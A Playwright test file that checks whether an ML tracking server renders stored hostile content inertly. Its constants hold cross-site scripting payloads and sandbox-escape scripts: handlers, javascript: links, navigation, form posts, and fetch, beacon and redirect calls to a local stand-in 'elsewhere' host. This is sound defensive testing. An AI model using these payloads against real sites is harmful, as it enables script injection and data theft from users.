"""What users and programs store stays content: script in files, names, logs, metadata and objects never runs as a page of this server.

Everything is logged by the real clients; then pages and raw files are opened in the browser, and what their script could reach is asked.
"""

from __future__ import annotations

import re
import threading
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, Response, expect

from tests.conformance.metaflow.machine import Machine, deploying_machine
from tests.support.clients import KFP_NEWEST, client_environment, client_python, run_client
from tests.support.server import LiveServer

MARK = '<script>window.hacked=1;parent.hacked=1</script><img src=x onerror="window.hacked=1"><b onclick=hacked()>bold</b>'
SPY = (
    "<!DOCTYPE html><h1 id=said>waits</h1><script>const said = [self.origin];"
    "for (const look of [() => document.cookie, () => localStorage.length, () => top.document.title, () => (parent.hacked = 1)])"
    " { try { look(); said.push('open') } catch (error) { said.push(error.name) } }"
    "fetch('/apis/v2beta1/experiments').then(() => 'open', () => 'closed').then((end) => { document.getElementById('said').textContent = [...said, end].join(' ') })"
    "</script>"
)
ESCAPE = """<!DOCTYPE html><base href="ELSEWHERE/base/">
<style>@import url(ELSEWHERE/import.css); @font-face { font-family: x; src: url(ELSEWHERE/font) } body { font-family: x; background: url(ELSEWHERE/background) }</style>
<link rel=stylesheet href="ELSEWHERE/sheet.css"><link rel=prefetch href="ELSEWHERE/prefetch"><img src="ELSEWHERE/image"><video src="ELSEWHERE/film" autoplay></video>
<object data="ELSEWHERE/object"></object><embed src="ELSEWHERE/embed"><iframe src="ELSEWHERE/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
<form id=f method=post action="/ui/trash/actions" target=_top></form><form id=g action="ELSEWHERE/form"></form><a id=d href="data:text/html,x" download=x.exe>d</a><h1 id=said>waits</h1>
<script>
const ends = (thing, good, bad) => new Promise((ok, no) => { thing[good] = () => ok("open"); thing[bad] = () => no(new Error()) });
const tries = {
  top: () => { top.location = "/ui/trash" }, parent: () => { parent.location.href = "/ui/trash" }, open: () => window.open("/ui/trash"),
  form: () => { document.getElementById("f").submit(); document.getElementById("g").submit() }, download: () => document.getElementById("d").click(),
  service: () => navigator.serviceWorker.register("/static/js/shell.js"), module: () => import("ELSEWHERE/module.js"), worker: () => { new Worker("/static/js/shell.js") },
  socket: () => ends(new WebSocket("ELSEWHERE".replace("http", "ws")), "onopen", "onerror"), fetch: () => fetch("ELSEWHERE/fetch", { mode: "no-cors" }),
  beacon: () => { navigator.sendBeacon("ELSEWHERE/beacon", "x") }, database: () => ends(indexedDB.open("x"), "onsuccess", "onerror"), message: () => parent.postMessage({ penstock: { isOurs: false }, penstockScroll: 1e9 }, "*"),
};
(async () => {
  const said = [];
  for (const [name, act] of Object.entries(tries)) try { said.push(`${name} ${await act()}`) } catch (error) { said.push(`${name} ${error.name}`) }
  document.getElementById("said").textContent = said.join(", ");
})();
</script>"""
ENDS = (
    "top SecurityError, parent SecurityError, open null, form undefined, download undefined, service SecurityError, module TypeError, worker SecurityError, "
    "socket Error, fetch TypeError, beacon undefined, database SecurityError, message undefined"
)
"""What it says that tried to leave its box; what says nothing is told by what then does not happen."""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.hacked=1"><script>parent.hacked=1</script><rect width="9" height="9"/></svg>'
TRACKED = """
import json, os, wandb
from PIL import Image

mark, spy, svg = os.environ["MARK"], os.environ["SPY"], os.environ["SVG"]
Image.new("RGB", (9, 9)).save("a.png")
files = {"page.html": spy, "drawing.svg": svg, "notes.md": "# Notes " + mark + "\\n[x](javascript:hacked()) <iframe src=/ui/home></iframe>",
    "lines.txt": mark, "rows.csv": "a,b\\n" + "".join(f'{n},"{mark.replace(chr(34), chr(34) * 2)}"\\n' for n in range(9)),
    "deep.json": json.dumps({mark: {mark: [mark]}}), "rows.jsonl": (json.dumps({mark: mark}) + "\\n") * 3,
    "book.ipynb": json.dumps({"nbformat": 4, "cells": [{"cell_type": "markdown", "source": [mark]}, {"cell_type": "code", "execution_count": 1,
        "source": [mark], "outputs": [{"output_type": "display_data", "data": {"text/html": [mark], "image/svg+xml": [svg]}}]}]}),
    "plot.json": json.dumps({"data": [{"type": "bar", "x": [mark], "y": [3], "name": mark}], "layout": {"title": {"text": mark}}}),
    "chart.vl.json": json.dumps({"$schema": "https://vega.github.io/schema/vega-lite/v6.json", "mark": "bar", "title": mark, "encoding": {
        "x": {"field": "a"}, "y": {"field": "b", "type": "quantitative"}, "href": {"field": "c"}},
        "data": {"values": [{"a": mark, "b": 3, "c": "javascript:hacked()"}]}}),
    "escape.html": os.environ["ESCAPE"], "refresh.html": "<meta http-equiv=refresh content='0;url=/ui/home'>", "moves.html": "<script>location='/ui/home'</script>",
    "leaks.html": f"<script>location='{os.environ['ELSEWHERE']}/leak'</script>", "<img src=x onerror=window.hacked=1>.txt": "named"}
for name, text in files.items():
    open(name, "w").write(text)
box = {"found": {"box_data": [{"position": {"minX": 0.1, "maxX": 0.9, "minY": 0.1, "maxY": 0.9}, "class_id": 1, "box_caption": mark}], "class_labels": {1: mark}}}
with wandb.init(name=mark, project="zoo", notes=mark, tags=["<b>tag</b>"], group=mark, job_type=mark[:60], config={mark: mark}) as run:
    print(mark)
    run.log({"loss": 1.0, mark[:40]: 2, "html": wandb.Html(spy, inject=False), "picture": wandb.Image("a.png", caption=mark, boxes=box), "words": mark,
        "table": wandb.Table(columns=["id", mark], data=[[n, mark] for n in range(9)])})
    artifact = wandb.Artifact("files", "dataset", description=mark, metadata={mark: mark})
    for name in (*files, "a.png"):
        artifact.add_file(name)
    artifact.add(wandb.Table(columns=["id", "picture"], data=[[n, wandb.Image("a.png", boxes=box)] for n in range(9)]), "pictures")
    run.log_artifact(artifact, aliases=["<b>alias"], tags=["gold"])
print("RUN" + run.id)
"""
PIPELINE = """
import os
from kfp import Client, dsl

@dsl.component
def make(mark: str, spy: str, svg: str, page: dsl.Output[dsl.HTML], notes: dsl.Output[dsl.Markdown], numbers: dsl.Output[dsl.Metrics],
         matrix: dsl.Output[dsl.ClassificationMetrics], drawing: dsl.Output[dsl.Artifact], data: dsl.Output[dsl.Dataset],
         folder: dsl.Output[dsl.Model]) -> str:
    import os
    os.makedirs(folder.path + "/sub")
    with open(folder.path + "/sub/page.html", "w") as file:
        file.write(spy)
    for artifact, text in ((page, spy), (notes, mark), (drawing, svg), (data, "a,b\\n1," + mark)):
        with open(artifact.path, "w") as file:
            file.write(text)
    numbers.log_metric(mark, mark)
    matrix.log_confusion_matrix([mark, "dog"], [[1, 2], [3, 4]])
    data.metadata[mark] = mark
    print(mark)
    raise_it = False
    return mark

@dsl.component
def fail(mark: str):
    raise RuntimeError(mark)

@dsl.pipeline(name="hostile", description=os.environ["MARK"])
def pipeline(mark: str, spy: str, svg: str):
    fail(mark=make(mark=mark, spy=spy, svg=svg).outputs["Output"])

client = Client(host=os.environ["URL"])
arguments = {name.lower(): os.environ[name] for name in ("MARK", "SPY", "SVG")}
run = client.create_run_from_pipeline_func(pipeline, arguments=arguments, run_name=os.environ["MARK"], experiment_name=os.environ["MARK"])
client.wait_for_run_completion(run.run_id, 300)
"""
OBJECTS = """
import os, boto3
from botocore.config import Config
client = boto3.client("s3", endpoint_url=os.environ["METAFLOW_S3_ENDPOINT_URL"], region_name="us-east-1", config=Config(signature_version="s3v4"))
out = []
for name, text, kind in (("a.html", os.environ["SPY"], "text/html"), ("a.svg", os.environ["SVG"], "image/svg+xml")):
    client.put_object(Bucket="metaflow", Key=f"flows/{name}", Body=text.encode(), ContentType=kind)
    out.append(client.generate_presigned_url("get_object", Params={"Bucket": "metaflow", "Key": f"flows/{name}"}))
"""
SHUT = "null SecurityError SecurityError SecurityError SecurityError closed"
"""What a page of content says that asked for cookies, storage, the page around it and the network."""


class Elsewhere(ThreadingHTTPServer):
    """Another site: remembers what browsers ask of it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), _Remembers)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        """Its address."""
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Remembers(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_error(404)

    do_POST = do_GET

    def log_message(self, format: str, *arguments: object) -> None:
        """Say nothing."""


@dataclass
class Zoo:
    """A server with hostile content of all clients."""

    server: LiveServer
    machine: Machine
    tracked: str
    """Id of the tracked run."""
    elsewhere: Elsewhere


@pytest.fixture(scope="module")
def zoo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Zoo]:
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "work").mkdir()
    elsewhere = Elsewhere()
    texts = {"MARK": MARK, "SPY": SPY, "SVG": SVG, "ELSEWHERE": elsewhere.url, "ESCAPE": ESCAPE.replace("ELSEWHERE", elsewhere.url)}
    with LiveServer(folder / "data", env={"PENSTOCK_SERVER_USER": "tester"}) as server:
        environment = client_environment(
            WANDB_BASE_URL=server.url, WANDB_API_KEY=server.key, WANDB_SILENT="true", USER="tester", HOME=str(folder / "work"), URL=server.url, **texts
        )  # fmt: skip
        said = []
        for source, requirements in ((TRACKED, ("wandb==0.31.0", "pillow", "numpy", "pandas", "plotly")), (PIPELINE, (KFP_NEWEST,))):
            done = run_client(client_python(*requirements), source, env=environment, cwd=folder / "work")
            assert done.returncode == 0, done.stderr
            said.append(done.stdout)
        found = re.search(r"RUN(\w+)", said[0])
        assert found is not None
        machine = deploying_machine(server, folder / "machine")
        machine.env.update(texts)
        yield Zoo(server, machine, found[1], elsewhere)
    elsewhere.shutdown()
    elsewhere.server_close()


@pytest.fixture
def tab(chromium: Browser, zoo: Zoo) -> Iterator[Page]:
    """A fresh page of a reader who is signed in."""
    context = chromium.new_context(base_url=zoo.server.url, viewport={"width": 1440, "height": 900}, locale="en-US", timezone_id="UTC")
    context.add_cookies([{"name": "probe", "value": "1", "url": zoo.server.url}])
    yield context.new_page()
    context.close()


def open_page(tab: Page, address: str) -> Response:
    """Open one of our pages and make sure that nothing in it ran or could run."""
    answer = tab.goto(address)
    assert answer is not None and answer.status == 200, address
    tab.wait_for_load_state("load")
    policy = dict(part.strip().split(" ", 1) for part in answer.headers["content-security-policy"].split(";"))
    assert (policy["script-src"], policy["style-src"], policy["object-src"], policy["base-uri"]) == ("'self'", "'self'", "'none'", "'none'")
    assert tab.evaluate("window.hacked") is None, address
    found = tab.evaluate(
        "() => [...document.querySelectorAll('*')].flatMap((node) => [...node.attributes].filter((one) => /^on(?!ce$)/.test(one.name) || /^\\s*javascript:/i.test(one.value)"
        " && ['href', 'src', 'action', 'xlink:href', 'srcdoc'].includes(one.name)).map((one) => `${node.tagName} ${one.name}`))"
        ".concat([...document.scripts].filter((one) => !one.src && one.type !== 'application/json').map((one) => one.textContent))"
        ".concat([...document.querySelectorAll('iframe:not([sandbox])')].map((one) => one.src).filter((one) => !/kfp=true/.test(one)))"
    )
    assert found == [], address
    return answer


def test_pages_of_a_tracked_run_and_its_artifact_show_script_as_text(tab: Page, zoo: Zoo) -> None:
    run = f"/tester/zoo/runs/{zoo.tracked}"
    version = "/tester/zoo/artifacts/dataset/files/v0"
    for address in (
        "/ui/projects", "/tester/zoo", "/tester/zoo/overview", "/tester/zoo/runs", run, f"{run}/overview", f"{run}/logs", f"{run}/files", f"{run}/artifacts",
        "/tester/zoo/artifacts", version, f"{version}/files", f"{version}/usage", f"{version}/history", f"{version}/lineage", "/ui/artifacts",
        f"/ui/search?q={quote(MARK[:20])}", "/ui/home",
    ):  # fmt: skip
        open_page(tab, address)
    tab.goto(f"{run}/logs")
    expect(tab.locator("[data-log-lines]")).to_contain_text("<script>window.hacked=1")
    tab.goto("/tester/zoo")
    expect(tab.locator(".media-image figcaption").first).to_contain_text("<script>")
    expect(tab.locator(".box-layer title").first).to_contain_text("<script>")
    box = tab.frame_locator('iframe[sandbox="allow-scripts"]').first
    expect(box.locator("#said")).to_have_text(SHUT)
    assert tab.evaluate("window.hacked") is None


def test_previews_of_hostile_files_run_nothing(tab: Page) -> None:
    files = "/tester/zoo/artifacts/dataset/files/v0/files"
    tab.goto(files)
    names = tab.locator("tbody th").all_inner_texts()
    assert any("<img src=x" in name for name in names)
    for name in ("page.html", "drawing.svg", "notes.md", "lines.txt", "rows.csv", "deep.json", "rows.jsonl", "book.ipynb", "plot.json", "chart.vl.json",
                 "pictures.table.json", "<img src=x onerror=window.hacked=1>.txt"):  # fmt: skip
        open_page(tab, f"{files}/{quote(name)}")
        if name == "page.html":
            expect(tab.frame_locator("iframe[sandbox]").locator("#said")).to_have_text(SHUT)
        elif name == "rows.csv":
            tab.get_by_label("Group the rows shown").select_option("b")
            expect(tab.locator(".sift-group")).to_contain_text("<script>")
        elif name == "pictures.table.json":
            tab.get_by_role("button", name="Open").first.click()
            expect(tab.locator("dialog .box-layer title")).to_contain_text("<script>")
        elif name == "lines.txt":
            tab.get_by_label("Search: words or /regex/").fill("<script>")
            expect(tab.locator(".reader mark").first).to_have_text("<script>")
        elif name == "plot.json":
            expect(tab.locator("[data-figure] svg, [data-figure] canvas").first).to_be_visible()
        elif name == "chart.vl.json":
            expect(tab.locator(".preview-vega [role=graphics-document]")).to_be_visible()
        assert tab.evaluate("window.hacked") is None, name


def test_what_a_page_of_content_tries_ends_in_its_box(tab: Page, zoo: Zoo) -> None:
    files = "/tester/zoo/artifacts/dataset/files/v0/files"
    happened: list[str] = []
    tab.on("download", lambda one: happened.append(f"download {one.url}"))
    tab.on("dialog", lambda one: (happened.append(f"dialog {one.message}"), one.dismiss()))
    open_page(tab, f"{files}/escape.html")
    tab.context.on("page", lambda one: happened.append(f"window {one.url}"))
    expect(tab.frame_locator("iframe[sandbox]").locator("#said")).to_have_text(ENDS)
    assert tab.evaluate("[location.pathname, window.hacked ?? null]") == [f"{files}/escape.html", None]
    for name in ("refresh.html", "moves.html", "leaks.html"):
        with tab.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
            tab.goto(f"{files}/{name}")
        assert tab.evaluate("location.pathname") == f"{files}/{name}"
    assert (happened, zoo.elsewhere.asked) == ([], [])


def test_pages_of_a_pipeline_run_show_script_as_text(tab: Page, zoo: Zoo) -> None:
    (run,) = zoo.server.get("/apis/v2beta1/runs")["runs"]
    run = zoo.server.get(f"/apis/v2beta1/runs/{run['run_id']}")
    address = f"/ui/runs/{run['run_id']}"
    tasks = {task["display_name"]: task["task_id"] for task in run["run_details"]["task_details"]}
    for view in ("graph", "timeline", "tasks", "metrics", "output", "config", "spec", "lineage"):
        open_page(tab, f"{address}?view={view}")
    for task in ("make", "fail"):
        for part in ("io", "visualizations", "details", "logs", "environment", "events", "metadata"):
            open_page(tab, f"{address}?task={tasks[task]}&tab={part}")
            if (task, part) == ("make", "visualizations"):
                box = tab.locator('iframe[sandbox="allow-scripts"]').first
                box.scroll_into_view_if_needed()
                expect(box.content_frame.locator("#said")).to_have_text(SHUT)
                assert tab.evaluate("window.hacked") is None
    for page in ("/ui/runs", "/ui/pipelines", "/ui/experiments", "/ui/executions", "/ui/artifacts?tab=stored", "/ui/logs?text=script", "/ui/executions?q=status:failed"):
        open_page(tab, page)
    rows = {row["name"]: row for row in zoo.server.get("/ui/export/artifacts?format=json")}
    open_page(tab, f"/ui/artifacts/{rows['folder']['artifact_id']}/files")
    tab.get_by_role("link", name="sub/").click()
    with tab.expect_download() as archive:
        tab.get_by_role("link", name="Download this folder").click()
    with zipfile.ZipFile(archive.value.path()) as held:
        assert held.namelist() == ["page.html"]
    tab.get_by_role("link", name="page.html").click()
    expect(tab.frame_locator("iframe[sandbox]").locator("#said")).to_have_text(SHUT)
    assert tab.evaluate("window.hacked") is None
    for row in rows.values():
        for part in ("overview", "preview", "lineage"):
            open_page(tab, f"/ui/artifacts/{row['artifact_id']}?tab={part}")


def test_raw_files_opened_by_themselves_reach_nothing_of_ours(tab: Page, zoo: Zoo) -> None:
    tab.goto("/tester/zoo/artifacts/dataset/files/v0/files/page.html")
    source = tab.locator("iframe[sandbox]").get_attribute("src") or ""
    addresses = [source, source.replace("page.html", "drawing.svg"), source.replace("page.html", "notes.md")]
    addresses += zoo.machine.read(OBJECTS)
    for address in addresses:
        answer = tab.goto(address)
        assert answer is not None and answer.status == 200, address
        assert answer.headers["content-security-policy"].startswith("sandbox"), address
        assert answer.headers["x-content-type-options"] == "nosniff", address
        # Script may run in a page of content, and then it is its own parent; what has no script at all says nothing.
        assert tab.evaluate("[self.origin, window.hacked ?? null]") == ["null", 1 if address == source else None], address
        if address == source:
            expect(tab.locator("#said")).to_have_text(SHUT.replace("SecurityError SecurityError closed", "open open closed"))
